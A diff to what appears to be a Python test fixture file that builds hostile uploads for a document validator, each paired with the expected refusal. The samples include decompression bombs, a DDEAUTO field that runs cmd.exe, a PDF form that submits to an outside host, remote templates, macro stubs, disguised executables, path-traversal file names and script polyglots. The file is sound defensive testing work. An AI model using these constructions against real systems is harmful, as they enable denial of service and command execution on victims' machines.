@@ -1,21 +1,28 @@
 """Files that mean harm or are not what they say, each made here, with a word of the answer that they get."""
 
 import io
+import os
 import struct
+import zipfile
 import zlib
 from dataclasses import dataclass
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name
 
+from tests.documents.mails import a_docx, an_eml, an_ods, many_parts, relations
 from tests.factories.documents import a_pdf, a_picture
+from tests.fakes.clamd import TEST_STRING
 
 
 @dataclass(frozen=True)
 class Hostile:
+    """answer: a word of the refusal; "" for a file that is kept because it can do no harm here, as `kept` says."""
+
     name: str
     content: bytes
     answer: str
+    kept: str = ""
 
 
 def _pdf_with(change, **save) -> bytes:  # type: ignore[no-untyped-def]
@@ -63,6 +70,78 @@ def _no_pages(pdf: pikepdf.Pdf) -> None:
     del pdf.pages[0]
 
 
+def _form_that_changes_itself(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
+
+
+def _sends_a_form(pdf: pikepdf.Pdf) -> None:
+    button = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
+    button.A = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://collect.example/"))
+    pdf.pages[0].Annots = Array([button])
+
+
+def _film(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])
+
+
+def _ten_metres_wide(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].MediaBox = Array([0, 0, 28_346, 842])
+
+
+def _bomb_on_the_page(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].Contents = pdf.make_stream(b"")
+    pdf.pages[0].Contents.write(zlib.compress(b"0 0 m " * 20_000_000, 1), filter=Name.FlateDecode)
+
+
+def _bomb_of_objects() -> bytes:
+    """A PDF whose objects are packed: a few bytes that unpack to some gigabytes, again and again."""
+    once = zlib.compressobj(9)
+    packed = b"".join(once.compress(b" " * 50_000_000) for _ in range(60)) + once.flush()
+    twice = zlib.compress(packed, 9)
+    catalog = b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
+    objects = b"5 0 obj <</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>> stream\n%s\nendstream endobj\n"
+    body = b"%PDF-1.7\n" + catalog
+    at_objects = len(body)
+    body += objects % (len(twice), twice)
+    start = len(body)
+    lines = b"".join(
+        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + b"\0"
+        for kind, place in ((0, 0), (1, 9), (2, 5), (0, 0), (0, 0), (1, at_objects), (1, start))
+    )
+    table = b"6 0 obj <</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>> stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF"
+    return body + table % (len(lines), lines, start)
+
+
+def _pages_in_a_ring() -> bytes:
+    return (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
+        b"3 0 obj<</Type/Pages/Parent 2 0 R/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF"
+    )
+
+
+def _lists_in_lists() -> bytes:
+    deep = b"[" * 100_000 + b"]" * 100_000
+    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + deep + b">>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"
+
+
+def _zip(**parts: bytes) -> bytes:
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in parts.items():
+            archive.writestr(name.replace("__", "/"), content)
+    return output.getvalue()
+
+
+def _web_page_in_a_picture() -> bytes:
+    """A JPEG whose comment is a web page."""
+    picture, words = a_picture("JPEG"), b"<html><script>alert(1)</script></html>"
+    return picture[:2] + b"\xff\xfe" + (len(words) + 2).to_bytes(2, "big") + words + picture[2:]
+
+
+def _locked_office() -> bytes:
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(100)
+
+
 def _png_of(width: int, height: int) -> bytes:
     """A PNG of a few bytes that says it is this large."""
 
@@ -74,6 +153,7 @@ def _png_of(width: int, height: int) -> bytes:
 
 
 SCRIPT, FILES, KIND, DAMAGED = "has a script inside", "has other files inside", "is not a PDF, PNG or JPEG", "is damaged"
+MACRO, ELSEWHERE, TOO_MUCH = "has a macro inside", "fetches something from another computer", "unpacks to more than is safe"
 
 HOSTILE = [
     Hostile("a web page called a plan.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", KIND),
@@ -113,4 +193,44 @@ HOSTILE = [
     Hostile("a long bomb.png", _png_of(200_000, 10), "has too many pixels"),
     Hostile("half a picture.jpg", a_picture("JPEG", (600, 400))[:700], DAMAGED),
     Hostile("a spoilt picture.png", a_picture()[:-20] + b"\0" * 20, DAMAGED),
+    Hostile("a form that changes itself.pdf", _pdf_with(_form_that_changes_itself), "is a form that changes itself"),
+    Hostile("sends what is filled in.pdf", _pdf_with(_sends_a_form), "sends what is filled in to another computer"),
+    Hostile("a film.pdf", _pdf_with(_film), FILES),
+    Hostile("an archive behind a plan.pdf", a_pdf() + _zip(run__exe=b"MZ" * 50), FILES),
+    Hostile("objects that unpack to gigabytes.pdf", _bomb_of_objects(), "unpacks to more than is safe|is damaged"),
+    Hostile("pages in a ring.pdf", _pages_in_a_ring(), "is damaged|has no pages"),
+    Hostile("lists in lists in lists.pdf", _lists_in_lists(), "is damaged|unpacks to more|has no pages"),
+    Hostile("a list of objects that is wrong.pdf", a_pdf().replace(b"startxref\n", b"startxref\n9"), "", "what can be read of it is shown"),
+    Hostile("ten metres wide.pdf", _pdf_with(_ten_metres_wide), "", "drawn as small as it must be"),
+    Hostile("ten thousand pages.pdf", a_pdf(10_000), "", "drawn page by page as it is looked at"),
+    Hostile("a drawing that unpacks to 120 MB.pdf", _pdf_with(_bomb_on_the_page), "", "the process that draws it is stopped"),
+    Hostile("a web page in a photograph.jpg", _web_page_in_a_picture(), "", "sent as a picture, never as a page"),
+    Hostile("a picture that is a script.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//;", KIND),
+    Hostile("a picture that is a script.png.js", b"alert(1)//" + a_picture(), KIND),
+    Hostile("invoice.pdf.exe", b"MZ\x90\x00" + b"\0" * 200, KIND),
+    Hostile("a plan in disguise.exe", a_pdf(), "", "a plain PDF, kept under the ending of what it is"),
+    Hostile("a picture in disguise.pdf", a_picture(), "", "a plain picture, kept under the ending of what it is"),
+    Hostile("../" * 150 + "a\x00\u202e" + "x" * 60 + ".pdf", a_pdf(words="name"), "", "kept under a name that is safe"),
+    Hostile("CON.pdf", a_pdf(words="con"), "", "kept under a name that Windows can save"),
+    Hostile("the test string of virus scanners.com", TEST_STRING, KIND),
+    Hostile("an archive of archives.docx", _zip(**{f"word__{n}.xml": b" " * 9_000_000 for n in range(60)}), TOO_MUCH),
+    Hostile("a bomb.docx", a_docx(**{f"word__{n}.xml": b" " * 9_000_000 for n in range(60)}), TOO_MUCH),
+    Hostile("macro.docx", a_docx(word__vbaProject="", **{"word__vbaProject.bin": b"\0" * 20}), MACRO),
+    Hostile(
+        "a template from elsewhere.docx",
+        a_docx(**{"word___rels__settings.xml.rels": relations("attachedTemplate", "https://x.example/t.dotm")}),
+        ELSEWHERE,
+    ),
+    Hostile("a program in a letter.docx", a_docx(**{"word__embeddings__oleObject1.bin": b"MZ" * 50}), FILES),
+    Hostile(
+        "starts a program.docx",
+        a_docx(**{"word__footer.xml": '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText>'}),
+        ELSEWHERE,
+    ),
+    Hostile("scripts.ods", an_ods().replace(b"META-INF/manifest.xml", b"Basic/Standard/x1.xml"), MACRO),
+    Hostile("ten thousand parts.eml", many_parts(10_000), "", "shown; its parts are left inside"),
+    Hostile("an archive in an email.eml", an_eml(("plans.zip", _zip(run__exe=b"MZ"))), "", "shown; the archive is refused like any other"),
+    Hostile("a script in an email.eml", an_eml(words="", html="<p>Hello</p><script>alert(1)</script>"), "", "its words alone are shown"),
+    Hostile("a web page.eml", b"<html>From: a\nDate: b\n<script>alert(1)</script></html>", KIND),
+    Hostile("half an Outlook message.msg", _locked_office(), KIND),
 ]
